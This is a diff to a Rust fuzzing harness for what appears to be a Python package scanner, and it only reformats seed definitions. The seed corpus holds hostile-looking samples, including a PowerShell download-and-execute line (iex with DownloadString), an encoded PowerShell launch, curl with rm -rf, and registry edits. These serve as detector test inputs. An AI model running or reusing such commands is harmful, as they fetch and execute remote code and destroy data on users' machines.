@@ -23,14 +23,18 @@ fn say(line: &str) {
 fn targets() -> Vec<Target> {
     let mut all = archives();
     all.extend(members());
-    all.push(Target::new("url", || texts(&["see https://u:p@a.example:8443/x?y#z, http://[::1]/ and ftp://1.2.3.4"]), |bytes| {
-        let text = String::from_utf8_lossy(bytes);
-        for (at, found) in url::find(&text) {
-            assert!(text.is_char_boundary(at));
-            url::parse(found);
-        }
-        url::parse(&text);
-    }));
+    all.push(Target::new(
+        "url",
+        || texts(&["see https://u:p@a.example:8443/x?y#z, http://[::1]/ and ftp://1.2.3.4"]),
+        |bytes| {
+            let text = String::from_utf8_lossy(bytes);
+            for (at, found) in url::find(&text) {
+                assert!(text.is_char_boundary(at));
+                url::parse(found);
+            }
+            url::parse(&text);
+        },
+    ));
     let honest = || probe::rows(&wheel());
     let sha256 = sha256_hex(&wheel());
     assert!(probe::accepts(honest(), &sha256).is_some());
@@ -60,17 +64,23 @@ fn archives() -> Vec<Target> {
         Target::new(name, seeds, |bytes| drop(census_artifact::read(bytes, &limits(), &mut |_| ())))
     });
     let sdist = || Sdist::new("demo", "1.0").file("setup.py", "from setuptools import setup\nsetup()\n").build().bytes;
-    let whole = Target::new("artifact", move || vec![wheel(), sdist()], |bytes| {
-        let scanned = census_scan::scan_bytes("demo", "demo-1.0-py3-none-any.whl", bytes, &limits());
-        assert!(matches!(scanned.scan.outcome.as_str(), "ok" | "partial" | "failed" | "skipped"));
-    });
+    let whole = Target::new(
+        "artifact",
+        move || vec![wheel(), sdist()],
+        |bytes| {
+            let scanned = census_scan::scan_bytes("demo", "demo-1.0-py3-none-any.whl", bytes, &limits());
+            assert!(matches!(scanned.scan.outcome.as_str(), "ok" | "partial" | "failed" | "skipped"));
+        },
+    );
     containers.into_iter().chain([whole]).collect()
 }
 
 /// Whether a case takes no time to build.
 fn is_small(name: &str) -> bool {
     let kind = name.starts_with("zip/") || name.starts_with("tar");
-    kind && !["bomb", "many", "deep", "overlapping", "vain", "thousand", "bound", "half", "itself", "64-kb", "2-mb"].iter().any(|big| name.contains(big))
+    kind && !["bomb", "many", "deep", "overlapping", "vain", "thousand", "bound", "half", "itself", "64-kb", "2-mb"]
+        .iter()
+        .any(|big| name.contains(big))
 }
 
 fn limits() -> Limits {
@@ -94,17 +104,37 @@ fn members() -> Vec<Target> {
     add(Format::Stub, &["import os\nclass A(os.PathLike[str]):\n    def f(self, x: int = ...) -> None: ...\nx: int\n"]);
     add(Format::Pth, &["import os; exec('x')\n./lib\n# words\n"]);
     add(Format::Notebook, &[r#"{"cells": [{"cell_type": "code", "source": ["import os\n", "!id\n"], "outputs": []}], "nbformat": 4}"#]);
-    add(Format::Metadata, &["Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: six[a,b]>=1,<2; python_version < '3' and (extra == 'x' or os_name != 'nt')\nRequires-Dist: d @ https://d.example/d.zip\nAuthor-email: A <a@b.example>\nProject-URL: Source, https://s.example/\n\nWords\n"]);
+    add(
+        Format::Metadata,
+        &[
+            "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: six[a,b]>=1,<2; python_version < '3' and (extra == 'x' or os_name != 'nt')\nRequires-Dist: d @ https://d.example/d.zip\nAuthor-email: A <a@b.example>\nProject-URL: Source, https://s.example/\n\nWords\n",
+        ],
+    );
     add(Format::Record, &["a.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n\"b,c.py\",,\n"]);
     add(Format::WheelInfo, &["Wheel-Version: 1.0\nGenerator: x (1.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"]);
     add(Format::EntryPoints, &["[console_scripts]\nx = a.b:c.d [e]\n\n[group]\ny=z\n"]);
     add(Format::DirectUrl, &[r#"{"url": "https://u.example/", "vcs_info": {"vcs": "git"}}"#]);
-    add(Format::Requirements, &["six>=1 # words\n-r other.txt\n-e .\nx[y] ; os_name == 'nt'\n[extra:python_version<'3']\nz @ https://z.example/\n"]);
-    add(Format::Pyproject, &["[build-system]\nrequires = [\"a>=1\"]\nbuild-backend = \"b:c\"\nbackend-path = [\".\"]\n[project.scripts]\nx = \"a:b\"\n"]);
+    add(
+        Format::Requirements,
+        &["six>=1 # words\n-r other.txt\n-e .\nx[y] ; os_name == 'nt'\n[extra:python_version<'3']\nz @ https://z.example/\n"],
+    );
+    add(
+        Format::Pyproject,
+        &["[build-system]\nrequires = [\"a>=1\"]\nbuild-backend = \"b:c\"\nbackend-path = [\".\"]\n[project.scripts]\nx = \"a:b\"\n"],
+    );
     add(Format::SetupCfg, &["[metadata]\nname = demo\n[options]\ninstall_requires =\n  six\n  x>=1\n"]);
-    add(Format::Sbom, &[r#"{"bomFormat": "CycloneDX", "components": [{"name": "a", "version": "1", "purl": "p:x/a@1", "components": []}]}"#]);
-    add(Format::Shell, &["#!/bin/sh\nX=1 chmod 755 $(which y) | tee `id` <<EOF\nwords\nEOF\nif [ -f a ]; then curl 'b' && rm -rf \"$c\"; fi\n"]);
-    add(Format::PowerShell, &["$x = 'a'; iex (New-Object Net.WebClient).DownloadString(\"https://p.example/\")\nStart-Process `\n  powershell -enc AAAA\n"]);
+    add(
+        Format::Sbom,
+        &[r#"{"bomFormat": "CycloneDX", "components": [{"name": "a", "version": "1", "purl": "p:x/a@1", "components": []}]}"#],
+    );
+    add(
+        Format::Shell,
+        &["#!/bin/sh\nX=1 chmod 755 $(which y) | tee `id` <<EOF\nwords\nEOF\nif [ -f a ]; then curl 'b' && rm -rf \"$c\"; fi\n"],
+    );
+    add(
+        Format::PowerShell,
+        &["$x = 'a'; iex (New-Object Net.WebClient).DownloadString(\"https://p.example/\")\nStart-Process `\n  powershell -enc AAAA\n"],
+    );
     add(Format::Batch, &["@echo off\r\nset X=1\r\nreg add HKLM\\x /v y ^\r\n  /d z & del /q %X%\r\n"]);
     add(Format::Makefile, &["all: x\n\t@chmod 755 $(X) ; \\\n\tid\nX := $(shell id)\n"]);
     add(Format::Dockerfile, &["FROM x\nRUN apt-get install \\\n  y && id\nCMD [\"a\", \"b\"]\n"]);
@@ -115,7 +145,9 @@ fn members() -> Vec<Target> {
         let cases = hostile::kit().into_iter().filter(|case| case.name.starts_with("native/") && case.name.contains(part));
         cases.filter_map(|case| first_member(&case.bytes())).collect()
     };
-    for (format, part) in [(Format::Elf, "elf"), (Format::Pe, "/pe-"), (Format::MachO, "macho"), (Format::Ar, "/ar-"), (Format::Wasm, "wasm")] {
+    for (format, part) in
+        [(Format::Elf, "elf"), (Format::Pe, "/pe-"), (Format::MachO, "macho"), (Format::Ar, "/ar-"), (Format::Wasm, "wasm")]
+    {
         all.push(Target::new(format.name(), move || natives(part), see(format)));
     }
     let object = b"\x64\x86\x01\0\0\0\0\0\x3c\0\0\0\x01\0\0\0\0\0\0\0";
